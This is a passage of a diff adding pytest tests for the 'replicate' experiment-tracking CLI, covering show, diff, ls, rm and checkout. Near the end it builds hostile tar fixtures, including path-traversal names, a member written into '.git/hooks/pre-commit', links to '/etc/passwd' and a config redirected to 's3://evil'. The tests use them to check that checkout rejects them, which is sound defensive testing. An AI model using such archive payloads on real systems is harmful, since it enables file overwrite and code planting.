+    monkeypatch.setenv("TZ", "<+08>-8")
+    time.tzset()
+
+
+def test_show_of_a_checkpoint(project, call, singapore):
+    write_repository(project / "repo", experiment_document(
+        A, params={"param-1": 100, "param-2": "hello"}, command="train.py --gamma=1.2 -x",
+        checkpoints=SPECIFICATION_CHECKPOINTS), running=[A])
+    assert call("show", "3cc") == (0, table("""
+        Checkpoint: 3ccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
+
+        Created:         Mon, 02 Jan 2006 23:01:05 +08
+        Path:            data
+        Step:            20
+
+        Experiment
+        ID:              1eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee
+        Created:         Mon, 02 Jan 2006 22:54:05 +08
+        Status:          running
+        Host:            10.1.1.1
+        User:            andreas
+        Command:         train.py --gamma=1.2 -x
+
+        Params
+        param-1:         100
+        param-2:         hello
+
+        System
+        Python version:  3.4.5
+
+        Python Packages
+        foo:             1.2.3
+
+        Metrics
+        metric-1:        0.02 (primary, minimize)
+        metric-2:        2
+        """), "")
+
+
+def test_show_of_an_experiment(project, call, singapore):
+    write_repository(project / "repo", experiment_document(
+        A, params={"param-1": 100}, command="train.py --gamma=1.2 -x", checkpoints=SPECIFICATION_CHECKPOINTS))
+    code, out, _ = call("show", "1ee")
+    assert (code, out) == (0, table("""
+        Experiment: 1eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee
+
+        Created:         Mon, 02 Jan 2006 22:54:05 +08
+        Status:          stopped
+        Host:            10.1.1.1
+        User:            andreas
+        Command:         train.py --gamma=1.2 -x
+
+        Params
+        param-1:         100
+
+        System
+        Python version:  3.4.5
+
+        Python Packages
+        foo:             1.2.3
+
+        Checkpoints
+        ID       STEP  CREATED     METRIC-1     METRIC-2
+        1cccccc  10    2006-01-02  0.1          2
+        2cccccc  20    2006-01-02  0.01 (best)  2
+        3cccccc  20    2006-01-02  0.02         2
+        """))
+
+
+def test_empty_blocks_say_none(project, call):
+    write_repository(project / "repo", experiment_document(A, python_packages=None, checkpoints=[checkpoint_document(C)]),
+                     experiment_document(B))
+    out = call("show", C)[1]
+    assert "Params\n(none)\n" in out and "Python Packages\n(none)\n" in out and out.endswith("Metrics\n(none)\n")
+    assert call("show", B)[1].endswith("Checkpoints\n(none)\n")
+
+
+def test_show_prints_the_stored_document_as_json(project, call):
+    document = experiment_document(A, params={"big": 2 ** 70, "nan": "[NaN]", "none": None}, keepsake_version="0.4.2",
+                                   checkpoints=[dict(checkpoint_document(C, metrics={"é": 1e-9}), more=[1])], unknown={"kept": True})
+    write_repository(project / "repo", document)
+    assert json.loads(call("show", A, "--json")[1]) == document
+    assert json.loads(call("show", C, "--json")[1]) == document["checkpoints"][0]
+
+
+def test_show_widens_the_column_for_long_names(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"a_very_long_name_of_a_param": 1}))
+    out = call("show", A)[1]
+    assert "a_very_long_name_of_a_param:  1\n" in out
+    assert "Host:" + " " * (len("a_very_long_name_of_a_param:  ") - 5) + "10.1.1.1\n" in out
+
+
+def test_values_in_show_are_never_cut(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"text": "x" * 300, "float": 0.123456789012, "list": [1] * 99}))
+    out = call("show", A)[1]
+    assert "x" * 300 + "\n" in out and "0.123456789012\n" in out and json.dumps([1] * 99, separators=(",", ":")) in out
+
+
+def test_diff_exactly(project, call):
+    left = experiment_document(A, params={"lr": 0.1, "same": 1, "long": "x" * 60, "only": None}, command="train.py --gamma=1.2 -x",
+                               checkpoints=[checkpoint_document(C, step=10, metrics={"loss": 1, "same": 2}, path="data")])
+    right = experiment_document(B, params={"lr": 0.2, "same": 1, "param-3": "hi"}, command="train.py",
+                                python_packages={"foo": "1.2.4"},
+                                checkpoints=[checkpoint_document(D, step=20, metrics={"loss": 1, "same": 2}, path="data")])
+    write_repository(project / "repo", left, right)
+    cut = "x" * 47 + "..."
+    expected = [
+        ("Experiment",), ("ID:", "1eeeeee", "2eeeeee"), ("Command:", "train.py --gamma=1.2 -x", "train.py"), (),
+        ("Params",), ("long:", cut, "(not set)"), ("lr:", "0.1", "0.2"), ("only:", "null", "(not set)"),
+        ("param-3:", "(not set)", "hi"), (),
+        ("Python Packages",), ("foo:", "1.2.3", "1.2.4"), (),
+        ("Checkpoint",), ("ID:", "1cccccc", "2cccccc"), ("Step:", "10", "20"), (),
+        ("Metrics",), ("(no difference)",)]
+    code, out, err = call("diff", C, D)
+    assert (code, err) == (0, "")
+    assert out == "".join("".join([row[0].ljust(26), row[1].ljust(52), row[2]] if len(row) == 3 else row) + "\n"
+                          for row in expected)
+
+
+def test_diff_columns_are_at_least_26_wide(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"a": 1}), experiment_document(B, params={"a": 2}))
+    assert "\na:                        1                         2\n" in call("diff", A, B)[1]
+    write_repository(project / "repo", experiment_document(A, params={"a" * 40: 1}))
+    assert "\n" + "a" * 40 + ":  1                         (not set)\n" in call("diff", A, B)[1]
+
+
+def cells(text):
+    """The cells of each line of a table."""
+    return [re.split("  +", line.rstrip()) for line in text.split("\n")]
+
+
+def test_diff_of_experiments_takes_the_best_or_the_latest_and_says_which(project, call):
+    write_repository(
+        project / "repo", experiment_document(A, checkpoints=SPECIFICATION_CHECKPOINTS),
+        experiment_document(B, checkpoints=[checkpoint_document(hex_id("5c"), "2006-01-02T15:00:00Z", 1, {"m": 1}),
+                                            checkpoint_document(hex_id("6c"), "2006-01-02T15:00:01Z", 2, {"m": 0})]))
+    code, out, err = call("diff", "1e", "2e")
+    assert code == 0 and ["ID:", "2cccccc", "6cccccc"] in cells(out)
+    assert "best checkpoint 2cccccc" in err and "latest checkpoint 6cccccc" in err
+
+
+def test_diff_without_checkpoints(project, call):
+    write_repository(project / "repo", experiment_document(A, checkpoints=SPECIFICATION_CHECKPOINTS), experiment_document(B, user="ben"))
+    out = call("diff", A, B)[1]
+    assert ["ID:", "2cccccc", "(none)"] in cells(out) and ["User:", "andreas", "ben"] in cells(out)
+    assert ["metric-1:", "0.01", "(not set)"] in cells(out) and ["Step:", "20", "(not set)"] in cells(out)
+
+
+def test_diff_of_the_same_experiment(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"x": 1}))
+    out = call("diff", A, A)[1]
+    assert out.split("\n") == ["Experiment", "ID:                       1eeeeee                   1eeeeee", "",
+                               "Params", "(no difference)", "", "Python Packages", "(no difference)", "",
+                               "Checkpoint", "ID:                       (none)                    (none)", "",
+                               "Metrics", "(no difference)", ""]
+
+
+def test_diff_of_two_checkpoints_of_one_experiment(project, call):
+    write_repository(project / "repo", experiment_document(A, checkpoints=SPECIFICATION_CHECKPOINTS))
+    out = call("diff", C, D)[1]
+    assert ["Step:", "10", "20"] in cells(out) and "Params\n(no difference)\n" in out
+    assert ["metric-1:", "0.1", "0.01"] in cells(out) and "metric-2" not in out
+
+
+cell_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
+
+
+@hypothesis.given(st.lists(st.lists(st.lists(cell_text.map(replicate.escape_control), min_size=1, max_size=3), min_size=3, max_size=3),
+                           min_size=1, max_size=5))
+def test_every_cell_of_a_table_starts_at_its_column(rows):
+    lines = replicate.render_table(["A", "B", "C"], rows, gap=True).split("\n")
+    wanted = [max([1] + [replicate.display_width(line) for row in rows for line in row[column]]) + 2 for column in range(2)]
+    position = 1
+    for row in rows:
+        for number in range(max(map(len, row))):
+            cells = [lines_of[number] if number < len(lines_of) else "" for lines_of in row]
+            expected = ""
+            for cell, width in zip(cells, wanted):
+                expected += cell + " " * (width - replicate.display_width(cell))
+            assert lines[position] == (expected + cells[2]).rstrip()
+            position += 1
+        assert lines[position] == ""
+        position += 1
+    assert lines[position:] == [""]
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 11  Commands, parser, main
+# ------------------------------------------------------------------------------------------------------------------
+
+def two_experiments(project, running=(), **fields):
+    write_repository(project / "repo", experiment_document(A, params={"lr": 0.1, "name": "adam"}, **fields),
+                     experiment_document(B, created="2006-01-02T14:55:05Z", params={"lr": 0.2, "name": "sgd"}), running=running)
+
+
+def test_no_experiments(project, call):
+    for arguments in (["ls"], ["ps"], ["ls", "--all"]):
+        assert call(*arguments) == (0, "", "═══╡ No experiments found\n")
+    assert call("ls", "--json") == (0, "[]\n", "")
+    assert call("ls", "-q") == (0, "", "")
+    two_experiments(project)
+    assert call("ls", "-f", "lr > 9") == (0, "", "═══╡ No experiments found\n")
+    assert call("ps") == (0, "", "═══╡ No experiments found\n")
+
+
+def test_ps_lists_the_running_ones(project, call):
+    two_experiments(project, running=[B])
+    assert call("ps", "-q") == (0, B + "\n", "")
+    assert call("ls", "-q") == (0, A + "\n" + B + "\n", "")
+    assert "  running" in call("ps")[1] and "  stopped" not in call("ps")[1]
+    assert call("processes", "-q")[1] == B + "\n" and call("list", "-q")[1] == A + "\n" + B + "\n"
+    assert call("ps", "-q", "-f", "lr = 0.1")[1] == ""
+
+
+def test_the_shape_of_json(project, call):
+    first = checkpoint_document(C, step=1, metrics={"loss": 0.1}, path="m", primary=("loss", "minimize"))
+    second = checkpoint_document(D, "2006-01-02T15:01:06Z", 2, {"loss": "[NaN]"}, primary=("loss", "minimize"))
+    write_repository(project / "repo", experiment_document(A, params={"x": "[NaN]"}, checkpoints=[first, second]),
+                     experiment_document(B, created="2006-01-02T14:55:05Z", host=None), running=[B])
+    code, out, err = call("ls", "--json")
+    assert (code, err) == (0, "")
+    assert json.loads(out) == [
+        {"id": A, "created": "2006-01-02T14:54:05Z", "params": {"x": "[NaN]"}, "command": "train.py", "num_checkpoints": 2,
+         "latest_checkpoint": second, "best_checkpoint": first, "user": "andreas", "host": "10.1.1.1", "running": False},
+        {"id": B, "created": "2006-01-02T14:55:05Z", "params": {}, "command": "train.py", "num_checkpoints": 0,
+         "latest_checkpoint": None, "best_checkpoint": None, "user": "andreas", "host": None, "running": True}]
+
+
+@pytest.mark.parametrize("arguments", [
+    ["ls", "-q", "--json"], ["ls", "-q", "--all"], ["ps", "-q", "--json"], ["ls", "--jso"], ["ls", "--verb"], ["--verb", "ls"],
+    ["ls", "extra"], ["show"], ["show", "a", "b"], ["diff", "a"], ["diff", "a", "b", "c"], ["rm"], ["checkout"], ["checkout", "a", "b"],
+    ["nonsense"], ["ls", "--nonsense"], ["ls", "--color=maybe"], ["analytics", "maybe"], ["ls", "--filter"], ["help", "nonsense"],
+    ["--repository"], ["ls", "--sort"], ["show", "-q", "a"], ["checkout", "--forc", "a"]], ids=" ".join)
+def test_wrong_usage_exits_with_2(project, call, arguments):
+    two_experiments(project)
+    before = snapshot(project)
+    code, out, err = call(*arguments)
+    assert code == 2 and out == "" and err.startswith("═══╡ ") and "Traceback" not in err
+    assert snapshot(project) == before
+    assert run(*arguments).returncode == 2
+
+
+@pytest.mark.parametrize("text", ["", "foo >> bar", "foo", "= 1", "foo =", "  "])
+def test_a_wrong_filter_shows_the_format(project, call, text):
+    two_experiments(project)
+    code, out, err = call("ls", "-f", text)
+    assert code in (1, 2) and out == "" and "<name> <operator> <value>" in err
+
+
+def test_filters_and_sorting(project, call):
+    two_experiments(project)
+    assert call("ls", "-q", "-f", "lr > 0.15")[1] == B + "\n"
+    assert call("ls", "-q", "--filter", "lr >= 0.1", "--filter", "name = adam")[1] == A + "\n"
+    assert call("ls", "-q", "--filter=name != adam")[1] == B + "\n"
+    assert call("ls", "-q", "-s", "lr-desc")[1] == call("ls", "-q", "--sort=started-desc")[1] == B + "\n" + A + "\n"
+    assert call("ls", "-q", "-s", "lr-asc")[1] == call("ls", "-q", "--sort", "lr")[1] == A + "\n" + B + "\n"
+
+
+def test_an_unknown_name_in_a_filter_or_sort_key_is_warned_of(project, call):
+    two_experiments(project)
+    code, out, err = call("ls", "-q", "-f", "naem = adam")
+    assert (code, out) == (0, "") and "'naem'" in err and "'name'" in err
+    code, out, err = call("ls", "-q", "--sort", "lrr")
+    assert (code, out) == (0, A + "\n" + B + "\n") and "'lrr'" in err and "'lr'" in err
+    assert call("ls", "-q", "-f", "name = adam", "--sort", "step")[2] == ""
+
+
+def test_aliases(project, call):
+    two_experiments(project)
+    assert call("delete", "-f", A)[0] == 0
+    assert [document["id"] for document in stored_documents(project / "repo")] == [B]
+    for alias in ("list", "processes", "delete"):
+        assert call("help", alias)[0] == 0
+
+
+def test_help(call, tmp_path):
+    code, out, err = call("--help")
+    assert (code, err) == (0, "") and call("-h")[1] == call("help")[1] == call()[1] == out
+    for name in ("analytics", "checkout", "demo", "diff", "feedback", "help", "ls", "ps", "rm", "show"):
+        assert re.search(r"(?m)^  %s " % name, out)
+        code, text, err = call("help", name)
+        assert (code, err) == (0, "") and "replicate %s " % name in text and len(text.split("\n")) > 10
+        if name != "help":
+            assert call(name, "--help")[1] == call(name, "-h")[1] == call("--help", name)[1] == text
+
+
+def test_help_of_ls_names_every_option_of_the_reference(call):
+    out = call("help", "ls")[1]
+    for name in ("--all", "-f", "--filter", "-h", "--help", "--json", "-q", "--quiet", "-R", "--repository", "-s", "--sort",
+                 "--color", "-D", "--project-directory", "-v", "--verbose"):
+        assert re.search(r"(?<![\w-])%s(?![\w-])" % name, out), name
+    for name in ("-f", "--force", "-o", "--output-directory", "--path"):
+        assert re.search(r"(?<![\w-])%s(?![\w-])" % name, call("help", "checkout")[1]), name
+
+
+def test_help_needs_no_arguments_and_no_project(call):
+    for name in ("show", "diff", "rm", "checkout"):
+        assert call(name, "--help")[0] == 0
+    assert call("rm", "-f", "--help", "abc")[0] == 0
+
+
+def test_version(call):
+    assert call("--version") == (0, "replicate %s\n" % replicate.__version__, "")
+    assert run("--version").stdout == run("-v", "--version").stdout == "replicate %s\n" % replicate.__version__
+
+
+@pytest.mark.parametrize("typed, meant", [("lss", "ls"), ("shwo", "show"), ("chekout", "checkout"), ("dif", "diff"), ("lists", "list")])
+def test_a_mistyped_command_gets_a_suggestion(call, typed, meant):
+    code, out, err = call(typed)
+    assert (code, out) == (2, "") and typed in err and "'%s'" % meant in err
+
+
+def test_global_flags_before_and_after_the_command(project, call, tmp_path, monkeypatch):
+    two_experiments(project)
+    url = "file://%s" % (project / "repo")
+    monkeypatch.chdir(tmp_path)
+    for flags in (["-R", url], ["--repository", url], ["--repository=" + url], ["-D", project], ["--project-directory=%s" % project]):
+        for arguments in ([*flags, "ls", "-q"], ["ls", *flags, "-q"], ["ls", "-q", *flags]):
+            assert call(*arguments) == (0, A + "\n" + B + "\n", ""), arguments
+    assert call("-D", tmp_path / "nowhere", "ls", "-D", project, "-q")[1] == A + "\n" + B + "\n"
+    assert call("show", "-v", "zz")[2].count("Traceback") == call("-v", "show", "zz")[2].count("Traceback") == 1
+
+
+def test_verbose_does_not_last(project, call):
+    call("-v", "ls")
+    assert "Traceback" not in call("show", "zz")[2]
+
+
+def test_a_bare_color_does_not_swallow_the_next_word(project, call):
+    two_experiments(project)
+    assert call("--color", "ls", "-q") == call("ls", "--color", "-q") == call("--color=false", "ls", "-q") == \
+        call("ls", "-q", "--no-color") == call("--no-color", "ls", "-q") == (0, A + "\n" + B + "\n", "")
+    assert call("show", "--color", A)[0] == 0
+
+
+def test_options_between_arguments(project, call):
+    for arguments in (["rm", "-f", A, B], ["rm", A, "-f", B], ["rm", A, B, "-f"], ["-v", "rm", A, "-f", "-v", B], ["rm", "-f", "--", A, B]):
+        two_experiments(project)
+        assert call(*arguments)[0] == 0, arguments
+        assert stored_documents(project / "repo") == []
+    two_experiments(project)
+    assert call("diff", A, "--no-color", B)[0] == 0
+
+
+def test_rm_removes_what_it_names(project, call):
+    two_experiments(project, path="train.py", checkpoints=[checkpoint_document(C, path="m"), checkpoint_document(D, path="m")])
+    for kind, item in (("experiments", A), ("checkpoints", C), ("checkpoints", D)):
+        write_archive(project / "repo" / kind / (item + ".tar.gz"), item, {"f": b"1"})
+    code, out, err = call("rm", "-f", C)
+    assert (code, out) == (0, "") and "1cccccc" in err
+    assert [item["id"] for item in stored_documents(project / "repo")[0]["checkpoints"]] == [D]
+    assert not (project / "repo/checkpoints" / (C + ".tar.gz")).exists()
+    assert call("rm", "-f", "1e")[0] == 0
+    assert sorted(name for name in tree(project / "repo")) == ["metadata/experiments/%s.json" % B, "repository.json"]
+
+
+@pytest.mark.parametrize("wrong", ["", "ffff", "f"], ids=["empty", "unknown", "ambiguous"])
+def test_rm_with_one_wrong_argument_deletes_nothing(project, call, wrong):
+    two_experiments(project)
+    write_repository(project / "repo", experiment_document(hex_id("f1")), experiment_document(hex_id("f2")))
+    before = snapshot(project)
+    code, out, err = call("rm", "-f", A, wrong)
+    assert code == 1 and snapshot(project) == before and len(err) > 10
+
+
+def test_rm_of_an_experiment_together_with_its_checkpoint(project, call):
+    two_experiments(project, checkpoints=[checkpoint_document(C)])
+    assert call("rm", "-f", C, A, A)[0] == 0
+    assert [document["id"] for document in stored_documents(project / "repo")] == [B]
+
+
+def test_rm_asks_on_a_terminal(project):
+    two_experiments(project, running=[B], checkpoints=[checkpoint_document(C)])
+    before = tree(project)
+    for answer in ("n\n", "\n", "maybe\n", "\x04"):
+        terminal = Terminal("rm", A, B).expect("(y/N)").send(answer)
+        assert terminal.wait() == 1, terminal.output
+        assert tree(project) == before
+    assert "1eeeeee" in terminal.output and "2eeeeee" in terminal.output and "1 checkpoint" in terminal.output
+    assert re.search("2eeeeee.*running", terminal.output) and not re.search("1eeeeee.*running", terminal.output)
+    assert Terminal("rm", A).expect("(y/N)").send("y\n").wait() == 0
+    assert [document["id"] for document in stored_documents(project / "repo")] == [B]
+    assert Terminal("rm", B, "-f").wait() == 0
+    assert stored_documents(project / "repo") == []
+
+
+def test_rm_without_a_terminal_refuses(project):
+    two_experiments(project)
+    before = tree(project)
+    done = run("rm", A, input="y\n")
+    assert (done.returncode, done.stdout) == (1, "") and "-f" in done.stderr and tree(project) == before
+
+
+def test_ctrl_c_at_a_prompt_exits_with_130(project):
+    two_experiments(project)
+    before = tree(project)
+    terminal = Terminal("rm", A).expect("(y/N)").send("\x03")
+    assert terminal.wait() == 130 and "Traceback" not in terminal.output and tree(project) == before
+
+
+def recorded(project, name="train.py"):
+    """An experiment with code and two checkpoints, by the real recorder; returns (experiment, first, second checkpoint) IDs."""
+    (project / "train.py").write_text("code\n")
+    (project / "data").mkdir(exist_ok=True)
+    (project / "data/in.txt").write_text("data of the experiment\n")
+    (project / "model").mkdir(exist_ok=True)
+    run_script("""
+        import replicate
+        experiment = replicate.init(path=".", params={"lr": 1}, quiet=True)
+        for step in range(2):
+            open("model/weights", "w").write("weights %d" % step)
+            open("data/in.txt", "w").write("data of checkpoint %d" % step)
+            experiment.checkpoint(path=".", step=step, metrics={"loss": step}, primary_metric=("loss", "minimize"), quiet=True)
+        experiment.stop()
+        """)
+    (document,) = stored_documents(project / "repo")
+    return (document["id"], *(item["id"] for item in document["checkpoints"]))
+
+
+def test_checkout_puts_the_checkpoint_over_the_experiment(project, call):
+    checkpoints = [checkpoint_document(C, path="model", step=7)]
+    write_repository(project / "repo", experiment_document(A, path=".", command="train.py --lr 1", checkpoints=checkpoints))
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"train.py": b"code", "model/a": b"old", "sub/dir/x": b"x"})
+    write_archive(project / "repo/checkpoints" / (C + ".tar.gz"), C, {"model/a": b"new", "model/b": b"b"})
+    code, out, err = call("checkout", C, "-o", "out")
+    assert (code, out) == (0, "") and "train.py --lr 1" in err
+    assert tree(project / "out") == {"train.py": b"code", "model/a": b"new", "model/b": b"b", "sub/dir/x": b"x"}
+    code, out, err = call("checkout", A, "-o", "two")
+    assert code == 0 and "latest checkpoint 1cccccc (step 7)" in err and tree(project / "two") == tree(project / "out")
+
+
+def test_checkout_of_an_experiment_takes_the_best_checkpoint(project, call):
+    experiment, best, _ = recorded(project)
+    code, _, err = call("checkout", experiment, "-o", "out")
+    assert code == 0 and "best checkpoint " + best[:7] in err
+    assert tree(project / "out")["model/weights"] == b"weights 0" and tree(project / "out")["data/in.txt"] == b"data of checkpoint 0"
+    assert tree(project / "out")["train.py"] == b"code\n" and "repo/repository.json" not in tree(project / "out")
+
+
+def test_checkout_goes_into_the_project_directory_also_from_a_subdirectory(project):
+    _, _, last = recorded(project)
+    (project / "train.py").unlink()
+    (project / "deep/er").mkdir(parents=True)
+    done = run("checkout", last, cwd=project / "deep/er")
+    assert done.returncode == 0, done.stderr
+    assert (project / "train.py").read_text() == "code\n" and snapshot(project / "deep") == {"er": "directory"}
+    (project / "train.py").unlink()
+    assert run("checkout", last, "-o", ".", cwd=project / "deep/er").returncode == 0
+    assert (project / "deep/er/train.py").exists() and not (project / "train.py").exists()
+
+
+def test_checkout_of_one_path(project, call):
+    _, first, _ = recorded(project)
+    assert call("checkout", first, "-o", "one", "--path", "model/weights")[0] == 0
+    assert tree(project / "one") == {"model/weights": b"weights 0"}
+    for number, path in enumerate(("data", "data/", "./data")):
+        assert call("checkout", first, "-o", "two%d" % number, "--path", path)[0] == 0
+        assert tree(project / ("two%d" % number)) == {"data/in.txt": b"data of checkpoint 0"}
+    assert call("checkout", first, "-o", "four", "--path", ".")[0] == 0
+    assert "model/weights" in tree(project / "four") and "train.py" in tree(project / "four")
+
+
+def test_checkout_of_a_missing_path_suggests_one(project, call):
+    _, first, _ = recorded(project)
+    code, _, err = call("checkout", first, "-o", "out", "--path", "model/weihgts")
+    assert code == 1 and "model/weihgts" in err and "'model/weights'" in err
+    assert not (project / "out").exists()
+    assert call("checkout", first, "-o", "out", "--path", "mod")[0] == 1
+
+
+def test_checkout_takes_a_path_from_the_experiment_where_the_checkpoint_lacks_it(project, call):
+    write_repository(project / "repo", experiment_document(A, path=".", checkpoints=[checkpoint_document(C, path="model")]))
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"train.py": b"code", "model": b"old"})
+    write_archive(project / "repo/checkpoints" / (C + ".tar.gz"), C, {"model": b"new"})
+    assert call("checkout", C, "-o", "out", "--path", "train.py")[0] == 0 and tree(project / "out") == {"train.py": b"code"}
+    assert call("checkout", C, "-o", "two", "--path", "model")[0] == 0 and tree(project / "two") == {"model": b"new"}
+
+
+def test_checkout_asks_before_it_overwrites(project):
+    _, first, _ = recorded(project)
+    (project / "train.py").write_text("changed\n")
+    (project / "model/weights").write_text("weights 0")
+    before = snapshot(project)
+    done = run("checkout", first, input="y\n")
+    assert done.returncode == 1 and "-f" in done.stderr and snapshot(project) == before
+    assert "train.py" in done.stderr and "data/in.txt" in done.stderr and "model/weights" not in done.stderr
+    terminal = Terminal("checkout", first).expect("(y/N)").send("n\n")
+    assert terminal.wait() == 1 and "train.py" in terminal.output and snapshot(project) == before
+    terminal = Terminal("checkout", first).expect("(y/N)").send("\x03")
+    assert terminal.wait() == 130 and snapshot(project) == before
+    assert Terminal("checkout", first).expect("(y/N)").send("yes\n").wait() == 0
+    assert (project / "train.py").read_text() == "code\n"
+    (project / "train.py").write_text("changed\n")
+    assert run("checkout", first, "-f").returncode == 0 and (project / "train.py").read_text() == "code\n"
+
+
+def test_checkout_does_not_ask_about_files_that_are_the_same(project):
+    _, _, last = recorded(project)
+    assert run("checkout", last).returncode == 0
+
+
+def test_checkout_keeps_other_files_and_the_executable_bit(project, call):
+    (project / "run.sh").write_text("#!/bin/sh\n")
+    (project / "run.sh").chmod(0o755)
+    experiment, _, _ = recorded(project)
+    (project / "out").mkdir()
+    (project / "out/mine").write_text("mine")
+    assert call("checkout", experiment, "-o", "out")[0] == 0
+    assert (project / "out/mine").read_text() == "mine"
+    assert os.access(project / "out/run.sh", os.X_OK) and not os.access(project / "out/train.py", os.X_OK)
+
+
+def test_checkout_without_any_files(project, call):
+    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C)]), experiment_document(B, path=""))
+    for item in (A, B, C):
+        code, out, err = call("checkout", item, "-o", "out")
+        assert (code, out) == (1, "") and "no files" in err.lower() and not (project / "out").exists()
+
+
+def test_checkout_says_that_files_are_gone(project, call):
+    write_repository(project / "repo", experiment_document(A, path=".", checkpoints=[checkpoint_document(C, path="m")]))
+    code, _, err = call("checkout", C, "-o", "out")
+    assert code == 1 and "gone" in err and not (project / "out").exists()
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"train.py": b"code"})
+    code, _, err = call("checkout", C, "-o", "out")
+    assert code == 1 and "gone" in err and "1cccccc" in err and not (project / "out").exists()
+    assert call("ls")[0] == call("show", A)[0] == 0
+
+
+def test_checkout_leaves_the_configuration_of_another_repository_alone(project, call, tmp_path):
+    write_repository(project / "repo", experiment_document(A, path="."))
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A,
+                  {"replicate.yaml": b"repository: s3://evil\n", "sub/replicate.yaml": b"repository: s3://evil\n", "train.py": b"code"})
+    code, _, err = call("checkout", A, "-f")
+    assert code == 0 and "replicate.yaml" in err and "another repository" in err
+    assert (project / "replicate.yaml").read_text() == "repository: file://repo\n" and (project / "train.py").exists()
+    assert call("checkout", A, "-o", tmp_path / "fresh")[0] == 0
+    assert (tmp_path / "fresh/train.py").exists()
+
+
+def test_a_saved_configuration_of_another_name_does_not_take_over(project, call):
+    write_repository(project / "repo", experiment_document(A, path="."))
+    (project / "replicate.yaml").rename(project / "keepsake.yaml")
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"replicate.yaml": b"repository: s3://evil\n", "train.py": b"code"})
+    call("checkout", A, "-f")
+    assert call("ls", "-q") == (0, A + "\n", "")
+
+
+def test_checkout_never_writes_through_a_link(project, call, tmp_path):
+    write_repository(project / "repo", experiment_document(A, path="."))
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"dir/file": b"new", "plain": b"new"})
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "file").write_text("precious")
+    (project / "out").mkdir()
+    (project / "out/dir").symlink_to(outside)
+    before = snapshot(project / "out")
+    code, _, err = call("checkout", A, "-f", "-o", "out")
+    assert code == 1 and "link" in err and tree(outside) == {"file": b"precious"} and snapshot(project / "out") == before
+    (project / "out/dir").unlink()
+    (project / "out/plain").symlink_to(outside / "file")
+    assert call("checkout", A, "-o", "out")[0] == 1
+    assert call("checkout", A, "-f", "-o", "out")[0] == 0
+    assert tree(outside) == {"file": b"precious"} and not (project / "out/plain").is_symlink()
+
+
+def test_a_file_and_a_directory_in_each_others_way(project, call):
+    write_repository(project / "repo", experiment_document(A, path="."))
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"a": b"new", "x/y": b"new"})
+    (project / "out/a").mkdir(parents=True)
+    before = snapshot(project / "out")
+    assert call("checkout", A, "-f", "-o", "out")[0] == 1 and snapshot(project / "out") == before
+    (project / "out/a").rmdir()
+    (project / "out/x").write_text("file")
+    before = snapshot(project / "out")
+    assert call("checkout", A, "-f", "-o", "out")[0] == 1 and snapshot(project / "out") == before
+    assert call("checkout", A, "-f", "-o", "replicate.yaml")[0] == 1
+
+
+def evil_archive(path, item, name, kind=tarfile.REGTYPE, target=""):
+    """A good file, then a member of that name and kind."""
+    Path(path).parent.mkdir(parents=True, exist_ok=True)
+    with tarfile.open(path, "w:gz") as archive:
+        for member_name, member_kind in (("%s/good" % item, tarfile.REGTYPE), (name, kind)):
+            member = tarfile.TarInfo(member_name)
+            member.type, member.linkname = member_kind, target if member_kind != tarfile.REGTYPE else ""
+            member.size = 4 if member_kind == tarfile.REGTYPE else 0
+            archive.addfile(member, io.BytesIO(b"evil"[:member.size]))
+
+
+@pytest.mark.parametrize("name, kind, target", [
+    ("%s/../evil", tarfile.REGTYPE, ""), ("%s/x/../../../evil", tarfile.REGTYPE, ""), ("/tmp/evil", tarfile.REGTYPE, ""),
+    ("../evil", tarfile.REGTYPE, ""), ("evil", tarfile.REGTYPE, ""), ("%s/x\\..\\evil", tarfile.REGTYPE, ""),
+    ("%s/C:evil", tarfile.REGTYPE, ""), ("%s/.git/hooks/pre-commit", tarfile.REGTYPE, ""), ("%s/sub/.GIT/config", tarfile.REGTYPE, ""),
+    ("%s/.replicate/storage/repository.json", tarfile.REGTYPE, ""), ("%s/link", tarfile.SYMTYPE, "/etc/passwd"),
+    ("%s/link", tarfile.LNKTYPE, "/etc/passwd"), ("%s/pipe", tarfile.FIFOTYPE, ""), ("%s/device", tarfile.CHRTYPE, ""),
+    ("%s/good/below", tarfile.REGTYPE, ""), ("%s//evil", tarfile.REGTYPE, ""), ("%s/./evil", tarfile.REGTYPE, "")])
+def test_nothing_is_written_for_a_hostile_archive(project, call, tmp_path, name, kind, target):
+    write_repository(project / "repo", experiment_document(A, path="."))
+    evil_archive(project / "repo/experiments" / (A + ".tar.gz"), A, name.replace("%s", A), kind, target)
+    (project / "good").write_text("mine")
+    before = snapshot(tmp_path)
+    for arguments in (["checkout", A, "-f"], ["checkout", A, "-f", "-o", "fresh"]):
+        code, out, err = call(*arguments)
+        assert (code, out) == (1, "") and "Traceback" not in err and "unexpected" not in err
+    assert snapshot(tmp_path) == before
+
+
+def test_a_failed_checkout_leaves_no_new_directory(project, call):
+    write_repository(project / "repo", experiment_document(A, path="."))
+    before = snapshot(project)
+    assert call("checkout", A, "-o", "a/b/fresh")[0] == 1 and snapshot(project) == before
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"../evil": b"evil"})
+    before = snapshot(project)
+    assert call("checkout", A, "-o", "a/b/fresh")[0] == 1 and snapshot(project) == before
+
+
+def test_an_archive_cut_between_two_gzip_members_is_damaged(project, call):
+    """Without the end-of-archive blocks of the tar, nobody knows whether files are missing."""
+    write_repository(project / "repo", experiment_document(A, path="."))
+    tar = io.BytesIO()
+    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as archive:
